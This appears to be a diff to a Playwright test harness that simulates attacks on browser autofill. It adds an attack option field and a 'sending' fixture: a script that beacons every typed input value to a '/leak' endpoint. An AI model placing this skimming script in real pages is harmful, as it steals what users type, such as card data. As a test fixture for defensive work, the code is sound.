@@ -21,6 +21,8 @@ export type Attack = {
   meanwhile?: (page: Page, at: Sites) => Promise<unknown>
   /** Whether what the page has set up still stands behind the filling. What the browser itself has ended proves nothing, and is played anew. */
   stands?: (page: Page) => Promise<boolean>
+  /** What holds it back besides all that `--unguarded` takes away; it is not played there. */
+  besides?: string
   /** Where something else is tried than filling what was confirmed. */
   attempt?: (context: {
     tab: BrowserTab
@@ -56,3 +58,7 @@ export const cardForm = ({ form = '', number = '', rest = '', id = '' } = {}): s
 
 export const frame = (address: string, more = ''): string =>
   `<iframe src="${address}" width="500" height="260" ${more}></iframe>`
+
+/** Sends on whatever is written: for pages and frames that are gone, or out of Playwright's sight, when it is looked. */
+export const sending =
+  '<script>addEventListener("input", ({ target }) => navigator.sendBeacon("/leak", target.value))</script>'
